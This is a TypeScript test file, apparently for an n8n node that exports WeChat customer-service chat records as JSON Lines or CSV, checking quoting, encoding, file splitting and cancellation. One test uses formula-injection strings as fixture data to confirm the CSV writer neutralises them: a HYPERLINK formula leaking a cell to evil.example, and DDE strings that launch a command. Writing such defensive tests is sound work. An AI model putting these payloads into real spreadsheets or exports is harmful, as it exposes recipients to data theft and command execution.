import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { Container } from '@n8n/di';
import { BinaryDataService } from 'n8n-core';
import type { IBinaryData } from 'n8n-workflow';

import { MSG_LIST_PATH } from '../../sandbox/routes/records';
import { useFilesystemBinaryData } from '../helpers/binaryData';
import { withParams } from '../helpers/patch';
import { tamperMsgList } from '../helpers/records';
import { sandboxCredential, useSandbox } from '../helpers/sandbox';
import { loadWorkflow, runWorkflow, type WorkflowJson } from '../helpers/workflow';

const ctx = useSandbox('empty');

/** 2024-03-01 00:00:00 China time, the workflow's time zone. */
const T0 = 1709222400;
const DAY = 86400;
const NODE = 'Chat Records';
const COLUMNS = ['time_iso', 'operation', 'worker', 'openid', 'text', 'opercode', 'time'];
const NAMES: Record<number, string> = { 2001: 'accountReceived', 2002: 'agentSent', 2003: 'agentReceived', 1000: 'sessionCreatedUnaccepted' };

function workflow(params: Record<string, unknown> = {}): WorkflowJson {
	return withParams(loadWorkflow('record-get-many.workflow.json'), NODE, {
		startTime: '2024-03-01T00:00:00',
		endTime: '2024-03-02T23:59:59',
		...params,
	});
}

/** The record items the sandbox's store holds for [from, to], in order, as the node must write them. */
function expectedItems(from = T0, to = T0 + 2 * DAY - 1): Array<Record<string, unknown>> {
	const s = ctx.sb.state.records;
	const [first, last] = s.timeRange(from, to);
	const out = [];
	for (let i = first; i < last; i++) {
		out.push({
			time_iso: `${new Date((s.time[i] + 8 * 3600) * 1000).toISOString().slice(0, 19)}+08:00`,
			operation: NAMES[s.opercode[i]] ?? 'unknown',
			worker: s.worker[i],
			openid: s.openid[i],
			text: s.text[i],
			opercode: s.opercode[i],
			time: s.time[i],
		});
	}
	return out;
}

/** A strict RFC 4180 reader: CRLF rows, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let i = 0;
	while (i < text.length) {
		let field = '';
		if (text[i] === '"') {
			i++;
			for (;;) {
				if (text[i] === '"' && text[i + 1] === '"') {
					field += '"';
					i += 2;
				} else if (text[i] === '"') {
					i++;
					break;
				} else if (i >= text.length) {
					throw new Error('unterminated quoted field');
				} else field += text[i++];
			}
		} else {
			while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
				if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
				field += text[i++];
			}
		}
		row.push(field);
		if (text[i] === ',') i++;
		else if (text.startsWith('\r\n', i)) {
			rows.push(row);
			row = [];
			i += 2;
		} else throw new Error(`expected , or CRLF at ${i}`);
	}
	if (row.length) throw new Error('last row without CRLF');
	return rows;
}

/** A file item's json for the 2-day range of `workflow()`, read in 2 windows and 4 pages. */
function twoDayFileJson(format: string, fileName: string, records: number, part: number, parts: number) {
	const range = { startTime: '2024-03-01T00:00:00+08:00', endTime: '2024-03-02T23:59:59+08:00', windows: 2, pages: 4 };
	return { records, part, parts, ...range, fileName, fileFormat: format };
}

async function fileBytes(binary: IBinaryData): Promise<Buffer> {
	return await Container.get(BinaryDataService).getAsBuffer(binary);
}

/** Content read back in item form (CSV values as text, as a spreadsheet sees them). */
function readBack(bytes: Buffer, format: string): Array<Record<string, unknown>> {
	const text = bytes.toString('utf8');
	if (format === 'jsonl') {
		expect(text.endsWith('\n') || text === '').toBe(true);
		return text
			.split('\n')
			.slice(0, -1)
			.map((l) => JSON.parse(l) as Record<string, unknown>);
	}
	expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
	const [header, ...rows] = parseCsv(text.slice(1));
	expect(header).toEqual(COLUMNS);
	return rows.map((r) => Object.fromEntries(header.map((h, k) => [h, r[k]])));
}

/** A cell as the CSV must hold it: a text a spreadsheet would read as a formula gets a leading '. */
function spreadsheetText(value: unknown): string {
	const text = String(value);
	return ['=', '+', '-', '@', '\t', '\r'].includes(text.charAt(0)) ? `'${text}` : text;
}

function asCsvText(items: Array<Record<string, unknown>>): Array<Record<string, string>> {
	return items.map((i) => Object.fromEntries(Object.entries(i).map(([k, v]) => [k, spreadsheetText(v)])));
}

describe('Record: Get Many → File', () => {
	let dir = '';
	let restore: (() => void) | undefined;
	beforeEach(() => {
		dir = mkdtempSync(join(tmpdir(), 'wechat-cs-record-file-'));
	});
	afterEach(() => {
		restore?.();
		restore = undefined;
		rmSync(dir, { recursive: true, force: true });
	});

	/** Items mode, then file mode with `fileParams`, over 2 days × 12,000 records: per day a full page, a partial one; a record exactly on the day boundary. */
	async function itemsThenFiles(mode: string, fileParams: Record<string, unknown>) {
		if (mode === 'filesystem') restore = await useFilesystemBinaryData(dir);
		ctx.sb.state.records.generate({ start: T0, days: 2, perDay: 12000 });
		const itemsRun = await runWorkflow(workflow(), sandboxCredential(ctx.sb));
		const itemRequests = ctx.sb.requestsTo(MSG_LIST_PATH).map((r) => r.json);
		ctx.sb.clearRequests();
		const result = await runWorkflow(workflow({ output: 'file', ...fileParams }), sandboxCredential(ctx.sb));
		expect(result.error).toBeUndefined();
		return { itemsRun, itemRequests, result };
	}

	/** A file export of 2 days × 30,000 records in filesystem mode, cancelled while the third page is served: the files left in the store. */
	async function cancelOnThirdPage(params: Record<string, unknown> = {}) {
		restore = await useFilesystemBinaryData(dir);
		ctx.sb.state.records.generate({ start: T0, days: 2, perDay: 30000 });
		const abort = new AbortController();
		tamperMsgList(ctx.sb, (_answer, _req, served) => {
			if (served === 3) abort.abort();
		});
		const result = await runWorkflow(workflow({ output: 'file', ...params }), sandboxCredential(ctx.sb), { abortSignal: abort.signal });
		await new Promise((resolve) => setTimeout(resolve, 300));
		expect(ctx.sb.requestsTo(MSG_LIST_PATH)).toHaveLength(3);
		expect(result.output(NODE)).toHaveLength(0);
		return readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile() && !e.name.endsWith('.metadata'));
	}

	it.each([
		['jsonl', 'default'],
		['jsonl', 'filesystem'],
		['csv', 'default'],
		['csv', 'filesystem'],
	])('%s in %s binary mode: every record of the range once, in order, with the same requests as items mode', async (format, mode) => {
		const { itemsRun, itemRequests, result } = await itemsThenFiles(mode, { fileFormat: format });
		const [item, ...more] = result.output(NODE);
		expect(more).toHaveLength(0);
		const fileName = `wechat-chat-records-20240301-000000-20240302-235959.${format}`;
		expect(item.json).toEqual(twoDayFileJson(format, fileName, 24000, 1, 1));
		expect(item.pairedItem).toEqual({ item: 0 });
		const binary = item.binary!.data;
		expect(binary).toMatchObject({ fileName, mimeType: format === 'csv' ? 'text/csv' : 'application/x-ndjson', fileExtension: format });
		if (mode === 'filesystem') expect(binary.id).toMatch(/^filesystem-v2:/);
		else expect(binary.id).toBeUndefined();
		const bytes = await fileBytes(binary);
		expect(binary.bytes).toBe(bytes.length);

		const expected = expectedItems();
		expect(expected).toHaveLength(24000);
		const got = readBack(bytes, format);
		expect(got).toEqual(format === 'csv' ? asCsvText(expected) : expected);
		if (format === 'jsonl') {
			// Byte for byte what items mode outputs, key order included.
			expect(bytes.toString('utf8')).toBe(itemsRun.json(NODE).map((j) => `${JSON.stringify(j)}\n`).join(''));
		}
		expect(ctx.sb.requestsTo(MSG_LIST_PATH).map((r) => r.json)).toEqual(itemRequests);
		expect(itemRequests).toHaveLength(4);
	});

	it('CSV quotes commas, quotes and line breaks (RFC 4180) and keeps Chinese and emoji as UTF-8', async () => {
		const texts = ['你好，我的订单还没有发货', 'a,b', 'say "hi"', 'line1\nline2', 'crlf\r\nend', ' lead and trail ', '😀 表情', ''];
		ctx.sb.state.records.add(
			texts.map((text, i) => ({ time: T0 + 60 + i, worker: i % 2 ? 'kf,1@sandbox_oa' : '', openid: `o_${i}`, opercode: 2002, text })),
		);
		const result = await runWorkflow(workflow({ output: 'file', fileFormat: 'csv' }), sandboxCredential(ctx.sb));
		expect(result.error).toBeUndefined();
		const bytes = await fileBytes(result.output(NODE)[0].binary!.data);
		const text = bytes.toString('utf8');
		expect(text.slice(0, 1)).toBe('\uFEFF');
		expect(text.split('\r\n')[0]).toBe('\uFEFFtime_iso,operation,worker,openid,text,opercode,time');
		expect(text).toContain('\r\n2024-03-01T00:01:00+08:00,agentSent,,o_0,你好，我的订单还没有发货,2002,1709222460\r\n');
		expect(text).toContain(',"kf,1@sandbox_oa",o_1,"a,b",2002,');
		expect(text).toContain(',o_2,"say ""hi""",2002,');
		expect(text).toContain(',"line1\nline2",');
		expect(text).toContain(',"crlf\r\nend",');
		expect(text).toContain(',o_5, lead and trail ,2002,');
		expect(text).toContain(',o_7,,2002,');
		expect(readBack(bytes, 'csv')).toEqual(asCsvText(expectedItems()));
	});

	it.each([
		['jsonl', 'filesystem'],
		['csv', 'filesystem'],
		['csv', 'default'],
	])('%s in %s binary mode: Records per File splits the export into numbered files, one item each, the same records and requests', async (format, mode) => {
		// 24,000 records in 8,000 per file: boundaries inside a page, and the last file full (no empty fourth file).
		const { itemsRun, itemRequests, result } = await itemsThenFiles(mode, { fileFormat: format, recordsPerFile: 8000 });
		const items = result.output(NODE);
		const names = [1, 2, 3].map((p) => `wechat-chat-records-20240301-000000-20240302-235959-part000${p}.${format}`);
		expect(items.map((i) => i.json)).toEqual(names.map((fileName, k) => twoDayFileJson(format, fileName, 8000, k + 1, 3)));
		expect(items.map((i) => i.binary!.data.fileName)).toEqual(names);
		const files = await Promise.all(items.map(async (i) => await fileBytes(i.binary!.data)));
		const expected = expectedItems();
		if (format === 'jsonl') {
			expect(Buffer.concat(files).toString('utf8')).toBe(itemsRun.json(NODE).map((j) => `${JSON.stringify(j)}\n`).join(''));
		} else {
			// Each file stands alone: BOM, header, its own rows.
			files.forEach((bytes, k) => expect(readBack(bytes, 'csv')).toEqual(asCsvText(expected.slice(8000 * k, 8000 * (k + 1)))));
		}
		expect(ctx.sb.requestsTo(MSG_LIST_PATH).map((r) => r.json)).toEqual(itemRequests);
	});

	it.each([0, 1.5, 1000001, 'many'])('refuses Records per File %p before any request', async (recordsPerFile) => {
		const result = await runWorkflow(workflow({ output: 'file', recordsPerFile }), sandboxCredential(ctx.sb));
		expect(result.error?.message).toBe(
			typeof recordsPerFile === 'string'
				? `"Records per File" must be a number, got "${recordsPerFile}"`
				: `"Records per File" must be a whole number from 1 to 1000000, got ${recordsPerFile}`,
		);
		expect(ctx.sb.requestsTo(MSG_LIST_PATH)).toHaveLength(0);
	});

	it('CSV writes a text starting with = + - @ TAB or CR with a leading \' and quotes; JSON Lines keeps every text exactly', async () => {
		const formulas = [
			'=HYPERLINK("http://evil.example/?leak="&E2,"click")',
			"+1+cmd|' /C calc'!A0",
			'-1+2',
			"@SUM(1+1)*cmd|' /C calc'!A0",
			'\t=1+1',
			'\r=1+1',
		];
		const plain = ['nul\u0000inside', 'cr\rlf\nboth\r\n', 'say "hi", twice', '😀 你好', 'line\u2028sep', '', ' =1', 'a=b'];
		const texts = [...formulas, ...plain];
		ctx.sb.state.records.add(texts.map((text, i) => ({ time: T0 + 60 + i, worker: 'kf1@sandbox_oa', openid: `o_${i}`, opercode: 2003, text })));
		const csv = await runWorkflow(workflow({ output: 'file', fileFormat: 'csv' }), sandboxCredential(ctx.sb));
		const csvText = (await fileBytes(csv.output(NODE)[0].binary!.data)).toString('utf8');
		for (const [i, text] of formulas.entries()) {
			expect(csvText).toContain(`,o_${i},"'${text.replace(/"/g, '""')}",2003,`);
		}
		const rows = readBack(await fileBytes(csv.output(NODE)[0].binary!.data), 'csv');
		expect(rows.map((r) => r.text)).toEqual([...formulas.map((t) => `'${t}`), ...plain]);
		expect(rows).toEqual(asCsvText(expectedItems()));

		const jsonl = await runWorkflow(workflow({ output: 'file' }), sandboxCredential(ctx.sb));
		const lines = readBack(await fileBytes(jsonl.output(NODE)[0].binary!.data), 'jsonl');
		expect(lines.map((l) => l.text)).toEqual(texts);
		expect(lines).toEqual(expectedItems());
	});

	it('an empty range gives a file with no records (CSV: BOM and header only)', async () => {
		const csv = await runWorkflow(workflow({ output: 'file', fileFormat: 'csv' }), sandboxCredential(ctx.sb));
		expect(csv.output(NODE)[0].json).toMatchObject({ records: 0, windows: 2, pages: 2 });
		expect((await fileBytes(csv.output(NODE)[0].binary!.data)).toString('utf8')).toBe(`\uFEFF${COLUMNS.join(',')}\r\n`);
		const jsonl = await runWorkflow(workflow({ output: 'file' }), sandboxCredential(ctx.sb));
		expect(jsonl.output(NODE)[0].json).toMatchObject({ records: 0, fileFormat: 'jsonl' });
		expect(jsonl.output(NODE)[0].binary!.data.bytes).toBe(0);
	});

	it('Limit, the agent filter and the binary field name work as in items mode', async () => {
		ctx.sb.state.records.generate({ start: T0, days: 1, perDay: 300 });
		const params = { returnAll: false, limit: 25, options: { worker: 'agent2@sandbox_oa' } };
		const items = await runWorkflow(workflow(params), sandboxCredential(ctx.sb));
		const itemRequests = ctx.sb.requestsTo(MSG_LIST_PATH).map((r) => r.json);
		ctx.sb.clearRequests();
		const result = await runWorkflow(
			workflow({ ...params, output: 'file', binaryPropertyName: 'records' }),
			sandboxCredential(ctx.sb),
		);
		const item = result.output(NODE)[0];
		expect(item.json).toMatchObject({ records: 25, windows: 1, pages: itemRequests.length });
		expect(Object.keys(item.binary!)).toEqual(['records']);
		expect(readBack(await fileBytes(item.binary!.records), 'jsonl')).toEqual(items.json(NODE));
		expect(items.json(NODE)).toHaveLength(25);
		expect(ctx.sb.requestsTo(MSG_LIST_PATH).map((r) => r.json)).toEqual(itemRequests);
	});

	it('rejects an unknown output or file format before any request', async () => {
		const result = await runWorkflow(workflow({ output: 'file', fileFormat: 'xlsx' }), sandboxCredential(ctx.sb));
		expect(result.error?.message).toBe('"File Format" must be "jsonl" or "csv", got "xlsx"');
		expect(ctx.sb.requestsTo(MSG_LIST_PATH)).toHaveLength(0);
		const table = await runWorkflow(workflow({ output: 'table' }), sandboxCredential(ctx.sb));
		expect(table.error?.message).toBe('"Output" must be "items" or "file", got "table"');
		expect(ctx.sb.requestsTo(MSG_LIST_PATH)).toHaveLength(0);
	});

	it('cancelling within the first file stops the requests and the writing; no file is left behind', async () => {
		expect(await cancelOnThirdPage()).toEqual([]);
	});

	it('cancelling after a file is stored stops the requests; the stored file stays with the execution', async () => {
		// 10,000 a page and a file: file 1 is stored once page 2 is in hand, before page 3 is asked for.
		expect(await cancelOnThirdPage({ recordsPerFile: 10000 })).toHaveLength(1);
	});
});
